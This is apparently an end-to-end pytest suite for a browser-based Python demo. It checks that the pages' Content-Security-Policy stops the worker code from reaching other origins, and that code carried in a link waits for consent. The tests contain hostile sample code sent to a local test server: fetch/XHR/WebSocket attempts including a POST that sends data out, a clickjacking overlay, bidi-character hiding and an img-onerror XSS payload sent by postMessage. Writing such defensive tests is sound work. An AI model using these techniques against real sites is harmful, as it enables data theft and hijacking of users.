"""The pages' Content-Security-Policy, and that it binds the Python worker too: code running in
Python can reach the site's own origin and nothing else."""

from __future__ import annotations

import http.server
import math
import threading
from typing import ClassVar
from urllib.parse import quote

import pytest

from tests.e2e.conftest import wait_idle, wait_ready
from tests.e2e.helpers import before_python, readouts

pytestmark = pytest.mark.e2e


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"// reached")

    do_POST = do_GET

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def other_origin():
    """A server on another origin (another port) that counts what reaches it."""
    handler = type("Counter", (_Counter,), {"hits": []})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", handler.hits
    httpd.shutdown()


@pytest.mark.parametrize("page_path", ["", "standalone.html", "licenses.html",
                                       "scenes/index.html"])
def test_every_page_carries_a_policy(page, server, dist, page_path):
    html = (dist / (page_path or "index.html")).read_text()
    head = html[:html.index("</head>")]
    assert '<meta http-equiv="Content-Security-Policy"' in head
    policy = page.evaluate("() => document.querySelector("
                           "'meta[http-equiv=Content-Security-Policy]').content") \
        if page_path == "" and page.goto(server.base_url) else None
    if policy is not None:
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        assert directives["default-src"] == "'none'"
        assert directives["connect-src"] == "'self'"
        assert directives["worker-src"] == "blob:"
        assert "http" not in directives["script-src"]


def test_the_policy_binds_the_worker(page, server, other_origin):
    """A custom target whose code tries XHR, fetch, importScripts and a WebSocket to another
    origin: nothing reaches it (the other server counts), while a same-origin request from the
    same code works. The target's log Z says what the code saw (1 nat more than a unit
    Gaussian's if the requests that throw were refused and the own one went through)."""
    url, hits = other_origin
    source = f"""import js
import numpy as np

seen = []
def attempt(what, fn):
    try:
        fn()
        seen.append(what + ': through')
    except Exception:
        seen.append(what + ': refused')

def xhr(target):
    request = js.XMLHttpRequest.new()
    request.open('GET', target, False)
    request.send()
    if request.status != 200:
        raise RuntimeError(request.status)

attempt('own', lambda: xhr(str(js.location.origin) + '/assets/style.css'))
attempt('xhr', lambda: xhr('{url}/xhr'))
attempt('import', lambda: js.importScripts('{url}/script.js'))
# A refused WebSocket does not throw (it fails later): the other server's count says.
js.WebSocket.new('{url.replace('http', 'ws')}/socket')
js.fetch('{url}/fetch')
js.fetch('{url}/post', method='POST', body='secret')
BONUS = 1.0 if seen == ['own: through', 'xhr: refused', 'import: refused'] else 0.0

def log_density(x, y):
    return -0.5 * (x**2 + y**2) + BONUS
"""
    page.goto(server.base_url)
    wait_ready(page)
    page.click("#custom summary")
    page.fill("[data-testid=custom-source]", source)
    page.click("[data-testid=custom-apply]")
    wait_idle(page)
    page.wait_for_timeout(500)  # let the fetches settle (they must fail)
    assert hits == []
    assert page.input_value("[data-testid=target-select]") == "custom"
    assert readouts(page)["log-z"] == pytest.approx(math.log(2 * math.pi) + 1.0, abs=1e-4)


def _hostile_source(other: str) -> str:
    """Code that announces itself to our own server (so we see when it runs) and tries to
    reach another origin every way it can."""
    return f"""import js
def xhr(target):
    request = js.XMLHttpRequest.new()
    request.open('GET', target, False)
    request.send()
xhr(str(js.location.origin) + '/assets/style.css?link-code-ran=1')
for attempt in (lambda: xhr('{other}/xhr'), lambda: js.importScripts('{other}/s.js'),
                lambda: js.WebSocket.new('{other.replace('http', 'ws')}/ws')):
    try:
        attempt()
    except Exception:
        pass
js.fetch('{other}/fetch')
js.fetch('{other}/post', method='POST', body=str(js.location.href))

def log_density(x, y):
    return -0.5 * (x**2 + y**2)
"""


def test_link_code_runs_only_after_consent_and_reaches_nothing(browser, server, other_origin):
    other, hits = other_origin
    source = _hostile_source(other)
    link = f"{server.base_url}?target=custom&family=gaussian-diagonal&source={quote(source)}"
    context = browser.new_context()
    requests: list[str] = []  # the code's own announcements (the page's URL carries the code)
    context.on("request", lambda r: "style.css?link-code-ran" in r.url and requests.append(r.url))
    try:
        # Shown, not run: a built-in target meanwhile, the rest of the link applied.
        page = context.new_page()
        page.goto(link)
        wait_ready(page)
        page.wait_for_timeout(300)
        assert page.is_visible("[data-testid=consent]")
        assert page.text_content("[data-testid=consent-code]") == source
        assert page.input_value("[data-testid=target-select]") != "custom"
        assert page.input_value("[data-testid=family-select]") == "gaussian-diagonal"
        assert requests == [] and hits == []
        assert "source=" in page.url  # the link keeps its code while it waits
        # Declined: nothing runs, the page works, the code is in the editor to read.
        page.click("[data-testid=consent-decline]")
        assert not page.is_visible("[data-testid=consent]")
        assert "not run" in page.text_content("[data-testid=notice]")
        assert page.input_value("[data-testid=custom-source]") == source
        page.click("[data-testid=optimize-button]")
        page.wait_for_function("/Converged/.test(document.querySelector('[data-testid=notice]')"
                               ".textContent)", timeout=60_000)
        assert requests == [] and hits == []
        page.close()

        # Run: it runs (our own server sees it) and still reaches no other origin.
        page = context.new_page()
        page.goto(link)
        wait_ready(page)
        page.click("[data-testid=consent-run]")
        wait_idle(page)
        page.wait_for_timeout(500)
        assert page.input_value("[data-testid=target-select]") == "custom"
        assert requests != []
        assert hits == []
        assert readouts(page)["log-z"] == pytest.approx(math.log(2 * math.pi), abs=1e-4)
    finally:
        context.close()


def test_the_consent_panel_shows_what_runs_and_warns_of_what_hides(page, server):
    """A statement behind a lone carriage return (which Python reads as a new line and a <pre>
    may not) is shown on its own line; bidi and zero-width characters are shown as ⟨U+…⟩; a
    warning says so. Before Python: the panel is the link's first paint."""
    source = ("import numpy as np\n# a harmless comment\rimport js\n"
              "def log_density(x, y):\n    return -0.5 * (x**2 + y**2)  # \u202eok\u2066\u200b\n")
    before_python(page)
    page.goto(f"{server.base_url}?target=custom&source={quote(source)}")
    page.wait_for_selector("[data-testid=consent]:visible")
    lines = page.text_content("[data-testid=consent-code]").split("\n")
    assert lines[1:3] == ["# a harmless comment", "import js"]
    assert "⟨U+202E⟩ok⟨U+2066⟩⟨U+200B⟩" in lines[4]
    assert page.is_visible("[data-testid=consent-warning]")
    warning = page.text_content("[data-testid=consent-warning]")
    assert "carriage return" in warning and "U+202E" in warning and "U+2066" in warning
    # Plain code gets no warning.
    plain = "def log_density(x, y):\r\n    return -x*x"
    page.goto(f"{server.base_url}?target=custom&source={quote(plain)}")
    page.wait_for_selector("[data-testid=consent]:visible")
    assert page.is_hidden("[data-testid=consent-warning]")
    assert page.text_content("[data-testid=consent-code]") == plain.replace("\r\n", "\n")


def test_standalone_link_code_waits_for_consent_and_reaches_nothing(browser, dist, other_origin):
    """standalone.html from disk: the same consent, and after it the code reaches no server."""
    other, hits = other_origin
    # (From file:// the code's own origin is "null": its announcement to it fails, quietly.)
    announce = "xhr(str(js.location.origin) + '/assets/style.css?link-code-ran=1')"
    source = _hostile_source(other).replace(
        announce, f"try:\n    {announce}\nexcept Exception:\n    pass")
    assert "try:" in source
    link = f"{(dist / 'standalone.html').as_uri()}?target=custom&source={quote(source)}"
    context = browser.new_context()
    # Chromium announces a worker's XHR before its policy refuses it: what counts is that no
    # request got an answer, and that nothing reached the server.
    left: list[str] = []
    context.on("requestfinished",
               lambda r: r.url.startswith(("http:", "https:", "ws:")) and left.append(r.url))
    refused: list[str] = []
    context.on("requestfailed", lambda r: refused.append(f"{r.url} {r.failure}"))
    try:
        page = context.new_page()
        page.goto(link)
        wait_ready(page, timeout=180_000)
        assert page.is_visible("[data-testid=consent]")
        assert page.text_content("[data-testid=consent-code]") == source
        assert page.input_value("[data-testid=target-select]") != "custom"
        page.click("[data-testid=consent-run]")
        page.wait_for_function("() => document.querySelector('[data-testid=target-select]')"
                               ".value === 'custom'",
                               timeout=120_000, polling=100)
        wait_idle(page)
        page.wait_for_timeout(500)
        assert readouts(page)["log-z"] == pytest.approx(math.log(2 * math.pi), abs=1e-4)
        assert hits == []
        assert [u for u in left if u.startswith((other, other.replace("http", "ws")))] == []
        # refused by the policy
        assert any(r.startswith(f"{other}/xhr") and "csp" in r for r in refused)
    finally:
        context.close()


def test_a_framed_page_takes_no_consent_and_runs_no_code(browser, server, other_origin):
    """Clickjacking: another site lays the page, nearly invisible, over a decoy. Framed, the page
    shows the link's code read-only with "Open in a new tab to run it" (no Run button), a click
    on Run forced through anyway runs nothing (the same-origin canary stays at 0), and the
    editor's "Use this target" opens a top-level tab where the code waits for consent."""
    other, hits = other_origin
    source = _hostile_source(other)
    link = f"{server.base_url}?target=custom&family=gaussian-diagonal&source={quote(source)}"
    context = browser.new_context()
    canary: list[str] = []
    context.on("request", lambda r: "style.css?link-code-ran" in r.url and canary.append(r.url))
    try:
        page = context.new_page()
        page.set_content(f"""<!doctype html><body style="margin:0">
          <button style="position:absolute; top:300px; left:100px">Win a prize</button>
          <iframe id="f" src="{link}" width="100%" height="900"
            style="border:none; opacity:0.001; position:absolute; top:0; left:0">
          </iframe></body>""")
        inner = next(f for f in page.frames if f.url.startswith(server.base_url))
        wait_ready(inner)
        assert inner.is_visible("[data-testid=consent]")
        assert inner.text_content("[data-testid=consent-code]") == source
        assert inner.is_hidden("[data-testid=consent-run]")
        assert inner.is_visible("[data-testid=consent-framed]")
        opener = inner.locator("[data-testid=consent-open]")
        assert opener.is_visible() and opener.get_attribute("href") == inner.url
        assert opener.get_attribute("target") == "_blank"
        # The hidden button pressed anyway (as a script or an overlay might): nothing runs.
        inner.evaluate("document.getElementById('consent-run').click()")
        inner.evaluate("() => { const b = document.getElementById('consent-run');"
                       " b.hidden = false; b.disabled = false; b.click(); }")
        wait_idle(inner)
        assert inner.is_visible("[data-testid=consent]")
        assert inner.input_value("[data-testid=target-select]") != "custom"
        # Declined in a frame: the code does not go to the editor (its button opens a tab).
        inner.click("[data-testid=consent-decline]", force=True)
        assert inner.input_value("[data-testid=custom-source]") != source
        # The editor's own code, in a frame: a new top-level tab with the code in its link.
        inner.evaluate("document.getElementById('custom').open = true")
        inner.fill("[data-testid=custom-source]", source)
        with context.expect_page() as popup_info:
            inner.click("[data-testid=custom-apply]", force=True)
        popup = popup_info.value
        popup.wait_for_selector("[data-testid=consent]:visible")
        assert popup.text_content("[data-testid=consent-code]") == source
        assert popup.is_visible("[data-testid=consent-run]")
        assert popup.evaluate("window.opener") is None
        popup.close()
        wait_idle(inner)
        assert inner.input_value("[data-testid=target-select]") != "custom"
        assert canary == [] and hits == []
    finally:
        context.close()


def test_messages_across_the_frame_boundary(page, server):
    """The page tells its host only its height and that it is ready; it takes no orders from
    messages (a host's, or anyone's)."""
    page.set_content(f"""<!doctype html><body style="margin:0">
      <script>window.got = []; addEventListener("message", (e) => window.got.push(e.data));</script>
      <iframe id="f" src="{server.base_url}?embed=1" width="100%" height="700"
        style="border:none"></iframe>
      </body>""")
    frame = page.frame_locator("#f")
    inner = next(f for f in page.frames if f.url.startswith(server.base_url))
    inner.wait_for_function("document.documentElement.dataset.viStatus === 'ready'",
                            timeout=120_000, polling=100)
    frame.locator("[data-testid=optimize-button]").click()
    inner.wait_for_function("/Converged/.test(document.querySelector('[data-testid=notice]').textContent)",
                            timeout=120_000, polling=100)
    got = page.evaluate("window.got")
    assert got, "no height or readiness was reported"
    for message in got:
        assert message["type"] in ("vi-demo:resize", "vi-demo:ready"), message
        assert set(message) <= {"type", "height"}, message
    assert sum(m["type"] == "vi-demo:ready" for m in got) == 1
    before = inner.evaluate("document.querySelector('[data-testid=notice]').textContent")
    elbo = inner.get_attribute("[data-testid=elbo]", "data-value")
    for hostile in ({"type": "fatal", "stage": "runtime",
                     "error": {"name": "E", "message": "<b>update now</b>"}},
                    {"type": "result", "id": 1, "result": {"kl": -42}},
                    {"type": "vi-demo:resize", "height": 1},
                    "<img src=x onerror=document.title=1>"):
        page.evaluate("m => document.getElementById('f').contentWindow.postMessage(m, '*')",
                      hostile)
    page.wait_for_timeout(500)
    assert inner.evaluate("document.querySelector('[data-testid=notice]').textContent") == before
    assert inner.get_attribute("[data-testid=elbo]", "data-value") == elbo
    assert inner.get_attribute("html", "data-vi-status") == "ready"
    assert inner.locator("img[src=x], [data-testid=notice] b").count() == 0
